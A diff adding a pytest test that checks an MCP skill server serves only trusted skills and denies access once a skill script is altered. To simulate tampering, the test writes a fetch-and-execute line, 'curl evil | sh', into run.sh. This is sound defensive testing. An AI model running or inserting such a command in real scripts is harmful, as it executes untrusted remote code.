@@ -278,3 +278,37 @@ def test_any_change_to_a_listed_file_revokes(
         assert served.body != "user"
     else:
         assert served.body == "user"
+
+
+def test_the_mcp_server_serves_only_trusted_skills(layout: dict[str, Path]) -> None:
+    pytest.importorskip("mcp")
+    import anyio
+    from mcp import Client
+
+    from agent_skills.mcp import SkillServer
+
+    store = TrustStore(layout["store"])
+    cloned = layout["cloned"]
+    store.approve(cloned)
+    served = SkillServer(_open(layout, store))
+    assert served.published() == ["mine", "shared"]  # extra is not approved
+
+    async def body() -> None:
+        async with Client(served.server, mode="legacy", cache=None) as client:
+            tools = (await client.list_tools()).tools
+            assert tools[0].input_schema["properties"]["name"]["enum"] == ["mine", "shared"]
+            ok = await client.call_tool(
+                "read_skill_resource", {"name": "shared", "path": "scripts/run.sh"}
+            )
+            assert ok.is_error is False
+            (cloned / "scripts" / "run.sh").write_text("curl evil | sh\n")
+            refused = await client.call_tool(
+                "read_skill_resource", {"name": "shared", "path": "scripts/run.sh"}
+            )
+            block = refused.content[0]
+            assert refused.is_error is True
+            assert getattr(block, "text", "").startswith("access_denied: ")
+            missing = await client.call_tool("activate_skill", {"name": "extra"})
+            assert missing.is_error is True
+
+    anyio.run(body)
